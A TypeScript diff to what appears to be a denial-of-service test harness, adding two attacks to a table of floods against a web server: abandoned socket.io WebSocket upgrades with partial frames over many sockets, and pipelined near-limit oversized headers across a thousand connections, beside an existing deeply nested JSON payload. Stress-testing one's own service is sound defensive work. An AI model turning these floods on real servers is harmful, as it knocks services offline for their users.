@@ -11,9 +11,14 @@ type Attack = (target: Target, tally: Tally, signal: AbortSignal) => Promise<voi
 const MANY = 2000;
 const UPGRADES = 20_000;
 const CALLERS = 50;
+/** How long one polling session is used. */
+const SESSION_MS = 2000;
 const MEGABYTE = 1_000_000;
 /** One fewer than a connection may have unanswered. */
 const PIPELINED = 3;
+/** In bytes, just below the limit, and many times what a connection may have unanswered. */
+const HEADER = 15_800;
+const HEADERS = 15;
 const DEPTH = 400_000;
 const NESTED = `{"constructor":1,"m":${'['.repeat(DEPTH)}${']'.repeat(DEPTH)}}`;
 
@@ -22,7 +27,10 @@ const JSON_BODY = 'content-type: application/json\r\n';
 const UPGRADE = 'connection: Upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\n';
 const KEY = 'sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n';
 const SOCKET = 'GET /socket.io/?EIO=4&transport=websocket';
+const POLLING = '/socket.io/?EIO=4&transport=polling';
 const PING = '\x89\x80\0\0\0\0';
+/** That a session would leave polling, and the beginning of a message. */
+const PROBE = `\x81\x86\0\0\0\x002probe\x82\xfe\x40\0\0\0\0\0${'x'.repeat(16_000)}`;
 
 const sockets =
   (optionsOf: (target: Target) => Omit<FloodOptions, 'target'>): Attack =>
@@ -84,6 +92,17 @@ export const attacks: Record<string, Attack> = {
     total: UPGRADES,
     head: head(SOCKET, `${UPGRADE}\r\n`),
   })),
+  'upgrades that are abandoned': async ({ shell }, tally, signal) => {
+    while (!signal.aborted) {
+      const opened = await (await fetch(new URL(POLLING, shell))).text();
+      const { sid } = JSON.parse(opened.slice(1)) as { sid: string };
+      const options = {
+        ...{ target: shell, sockets: 100, leavesAfterMs: 100 },
+        head: head(`${SOCKET}&sid=${sid}`, `${UPGRADE}${KEY}\r\n`) + PROBE,
+      };
+      await flood(options, tally, AbortSignal.any([signal, AbortSignal.timeout(SESSION_MS)]));
+    }
+  },
   'WebSocket pings': sockets(() => ({
     sockets: 20,
     head: head(SOCKET, `${UPGRADE}${KEY}\r\n`),
@@ -99,6 +118,12 @@ export const attacks: Record<string, Attack> = {
     head: head('GET /api/release-set', '\r\n').repeat(PIPELINED),
     leavesAfterMs: 5000,
     addresses: 1,
+  })),
+  'large headers in advance': sockets(() => ({
+    sockets: 1000,
+    head: head('GET /api/release-set', `x: ${'x'.repeat(HEADER)}\r\n\r\n`).repeat(HEADERS),
+    leavesAfterMs: 4000,
+    addresses: 4,
   })),
   'nested JSON': sockets(() => ({
     sockets: 8,
